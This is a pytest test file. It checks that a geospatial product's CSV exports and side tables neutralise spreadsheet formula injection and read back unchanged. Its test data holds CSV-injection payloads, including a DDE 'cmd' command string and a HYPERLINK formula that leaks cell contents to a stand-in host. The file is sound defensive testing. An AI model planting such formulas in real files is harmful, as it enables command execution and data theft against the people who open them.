"""Issue 27, defect 2: no CSV the product writes carries a spreadsheet formula, and each reads back to its text.

The writers are the export's CSV (also the viewer's download), the shapefile
zip's side tables and ``edits export``; the readers are ``edits import`` and an
uploaded CSV (:mod:`geo._csvsafe`).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import geopandas as gpd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from shapely.geometry import Point

from geo.edits import open_store
from geo.edits._files import read_changes, write_corrections
from geo.export import export_bytes
from geo.upload import read_upload

RESERVOIR = "pj-zhangshiba-reservoir"
PASSWORD = "a long passphrase"
#: What issue 27 found in the download, and OWASP's other first characters.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+SUM(1+1)",
            "@SUM(A1)", "\t=1+1", "-2+3", "\r=1", "＝1+1", "'=already quoted", "''+twice"]


TRIGGERS = "=+-@\t\r\n＝＋－＠"  # OWASP's, and the precautions of geo._csvsafe
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _dangerous(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula (a plain number is not one)."""
    return bool(cell) and cell[0] in TRIGGERS and not _NUMBER.fullmatch(cell)


def test_the_rule_quotes_formulas_and_leaves_numbers_and_plain_text_alone() -> None:
    from geo._csvsafe import neutralise, restore

    assert [neutralise(c) for c in ("=1+1", "+1+1", "-x", "@A1", "\tx", "'=x", "-106.5", "+3", "1e-3", "綦江", "")] \
        == ["'=1+1", "'+1+1", "'-x", "'@A1", "'\tx", "''=x", "-106.5", "+3", "1e-3", "綦江", ""]
    assert neutralise(None) is None and neutralise(12) == 12
    assert restore("'=1+1") == "=1+1" and restore("'plain") == "'plain" and restore("-5") == "-5"


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["'", "a", "1", ".", "e", " ", "綦"]), max_size=8)
       | st.text(max_size=30))
def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
    from geo._csvsafe import neutralise, restore

    written = neutralise(text)
    assert restore(written) == text
    assert not _dangerous(written)


def _upload_frame() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"name": FORMULAS, "note": [f"row {i}" for i in range(len(FORMULAS))]},
                            geometry=[Point(106.6 + i / 100, 28.8) for i in range(len(FORMULAS))], crs=4326)


def test_2_the_csv_download_of_an_upload_carries_no_formula_and_reads_back() -> None:
    data, _, _ = export_bytes({"upload_evil": _upload_frame()}, "csv", "wgs84")
    assert data.startswith(b"\xef\xbb\xbf")  # still written for Excel
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if _dangerous(cell)]
    again = read_upload("download.csv", data)
    # the product's reader takes the apostrophes off (and, as for any upload, drops a carriage return)
    assert again.frame["name"].tolist() == [f.replace("\r", "") for f in FORMULAS]


def test_2_an_uploaded_csv_with_formulas_comes_out_neutralised() -> None:
    text = "name,lon,lat\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",106.6,28.8\n' for f in FORMULAS[:5])
    upload = read_upload("evil.csv", text.encode("utf-8"))
    data, _, _ = export_bytes({"upload_evil": upload.frame}, "csv", "wgs84")
    assert not [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row if _dangerous(c)]


def test_2_the_shapefile_zip_side_tables_carry_no_formula() -> None:
    frame = _upload_frame()
    frame["=evil_column"] = "x"
    frame["long"] = ["=" + "y" * 300] * len(frame)  # over the DBF's 254 bytes: goes to the side table
    data, _, _ = export_bytes({"upload_evil": frame}, "shp", "wgs84")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        tables = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")]
    assert len(tables) == 3  # field names, long texts and the data dictionary (issue 28)
    assert not [c for table in tables for row in csv.reader(io.StringIO(table)) for c in row if _dangerous(c)]


@pytest.fixture()
def store(tmp_path: Path, project_root: Path):
    opened = open_store(f"sqlite:///{tmp_path / 'edits.sqlite'}", layers_dir=project_root / "layers")
    opened.add_user("li", PASSWORD, "editor")
    yield opened
    opened.close()


def test_2_edits_export_carries_no_formula_and_edits_import_reads_the_same_text(store, tmp_path) -> None:
    for version, formula in enumerate(FORMULAS):
        store.add_note(RESERVOIR, "projects", formula.strip(), "@" + formula.strip().replace("\r", ""), user="li",
                       base_version=version)
    output = tmp_path / "corrections.csv"
    write_corrections(store.current(), output)
    with output.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert not [cell for row in rows for cell in row if _dangerous(cell)]
    changes = read_changes(output, store)
    assert [(c.note, c.source) for c in changes] == [(e.note, e.source) for e in store.edits()]
